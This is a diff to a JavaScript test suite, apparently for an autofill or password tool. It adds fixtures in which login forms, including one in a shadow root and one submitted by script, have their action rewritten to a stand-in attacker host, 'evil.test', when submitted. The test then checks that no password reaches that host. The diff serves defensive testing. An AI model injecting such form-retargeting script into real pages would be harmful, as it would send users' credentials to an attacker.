@@ -150,6 +150,37 @@ describe('what was written is taken back out', () => {
     });
   }
 
+  const FIELDS = '<input id="user" name="user"><input id="password" name="pass" type="password"><button id="go">Log in</button>';
+  const ASTRAY = 'form.action = "https://evil.test/";';
+  const forms = {
+    'in a shadow root': `<div id="host"></div><script>
+      const root = host.attachShadow({mode: 'open'});
+      root.innerHTML = '<form action="/in" method="post">${FIELDS}</form>';
+      const form = root.querySelector('form');
+      form.addEventListener('submit', () => { ${ASTRAY} });
+    </script>`,
+    'that its fields stand outside of': `<form id="form" action="/in" method="post"></form>${FIELDS.replaceAll(' id=', ' form="form" id=')}<script>
+      form.addEventListener('submit', () => { ${ASTRAY} });
+    </script>`,
+    'whose page keeps its submit to itself': `<form id="form" action="/in" method="post">${FIELDS}</form><script>
+      form.addEventListener('submit', (event) => { event.stopImmediatePropagation(); ${ASTRAY} });
+    </script>`,
+    'that a script sends': `<form id="form" action="/in" method="post">${FIELDS}</form><script>
+      go.addEventListener('click', (event) => { event.preventDefault(); ${ASTRAY} form.submit(); });
+    </script>`,
+  };
+  for (const [what, markup] of Object.entries(forms)) {
+    test(`a form ${what}, when its target changes: no value goes there`, async () => {
+      await world.show(markup);
+      const result = await world.fill(BOTH, {click: 'go'});
+      // What was sent has been sent by now: the page answers after the navigation, if there is one.
+      await world.page.evaluate(() => new Promise((resolve) => { setTimeout(resolve); })).catch(() => {});
+      await world.page.waitForFunction(() => document.readyState === 'complete');
+      assert.equal(result, 'target_changed');
+      assert.doesNotMatch(world.bodies().join('\n'), /pass|zilla/);
+    });
+  }
+
   test('a form whose target stays is sent there', async () => {
     await world.show(FORM);
     await Promise.all([world.page.waitForNavigation(), world.fill(BOTH, {click: 'go'}).catch(() => {})]);
